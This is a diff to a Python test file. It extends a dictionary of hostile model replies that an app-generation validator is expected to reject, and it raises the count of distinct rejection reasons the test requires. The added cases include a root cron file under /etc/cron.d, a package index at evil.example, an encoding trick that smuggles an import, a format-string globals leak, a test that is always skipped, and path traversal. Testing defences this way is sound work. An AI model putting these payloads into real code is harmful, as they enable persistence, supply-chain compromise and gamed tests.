@@ -115,6 +115,17 @@ HOSTILE = {
     "wrong names": json.dumps({name.replace("app.py", "main.py"): "" for name in APP_FILES}),
     "traversal": json.dumps({**json.loads(answer()), "../../escaped.py": "X = 1\n"}),
     "prose": "Certainly! Here is the app you asked for.",
+    "twice": '{"app.py": "import os", ' + answer().lstrip("{"),
+    "absolute": json.dumps({**json.loads(answer()), "/etc/cron.d/owned": "* * * * * root id"}),
+    "coding": answer(app_py="# coding: raw_unicode_escape\n#\\u000aimport os\n"),
+    "hook": answer(conftest_py="import json as pytest_configure\n"),
+    "condition": answer(
+        test_app_py="import pytest\n@pytest.mark.skipif('1', reason='x')\ndef test_x(client):\n    assert 1\n"
+    ),
+    "format": answer(app_py="def f(x):\n    return '{0.__globals__}'.format(x)\n"),
+    "deep": answer(app_py="X = " + "-" * 20_000 + "1\n"),
+    "NUL": answer(app_py="X = 1\0\n"),
+    "packages": answer(requirements_txt="--index-url https://evil.example\n"),
 }
 
 
@@ -129,7 +140,7 @@ def test_hostile_replies_leave_one_reason_each_and_nothing_else(lsqm, tmp_path):
     assert len(told["apps"]) == len(HOSTILE)
     refused = ("malformed", "against-policy", "truncated")
     assert [(app["outcome"], app["reason"]) for app in told["apps"] if app["outcome"] not in refused] == []
-    assert len({app["reason"] for app in told["apps"]}) >= 7
+    assert len({app["reason"] for app in told["apps"]}) >= 14
     assert all(app["reason"] for app in told["apps"])
     assert told["tokens"] == api.billed_tokens
     assert not list((workspace / "artifacts" / "apps").glob("*"))
